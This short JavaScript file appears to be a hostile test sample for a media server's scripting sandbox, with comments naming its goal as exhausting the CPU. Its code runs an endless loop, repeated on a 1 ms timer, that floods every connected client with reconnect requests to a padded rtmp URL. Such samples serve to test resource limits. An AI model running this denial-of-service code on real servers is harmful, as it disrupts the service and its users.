// Tries: to flood its clients with requests to connect again, for as long as a handler may run, and with timers after that.
// Attack: call
// Ends: cpu

const storm = () => {
  for (;;) for (const client of application.clients) client.requestReconnect(`rtmp://x/${'y'.repeat(900)}`);
};
Client.prototype.attack = () => {
  setInterval(storm, 1);
  storm();
};
